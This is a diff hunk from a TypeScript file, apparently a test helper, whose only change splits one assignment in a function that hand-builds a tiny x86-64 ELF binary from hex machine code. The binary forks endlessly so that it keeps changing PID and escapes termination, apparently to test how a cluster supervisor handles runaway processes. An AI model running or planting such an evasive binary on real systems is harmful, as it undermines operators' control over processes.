@@ -7,7 +7,8 @@ useCluster();
 /** `while (fork() <= 0) {} _exit(0)` for x86-64, as an ELF file of one segment: other languages fork too slowly to escape. */
 function comet(): Buffer {
   const code = Buffer.from('b8390000000f0585c074f578f3b83c00000031ff0f05', 'hex');
-  const [start, size] = [0x400000n, 120 + code.length];
+  const start = 0x400000n;
+  const size = 120 + code.length;
   const file = Buffer.alloc(size);
   file.write('7f454c46020101', 'hex');
   for (const [at, value] of [
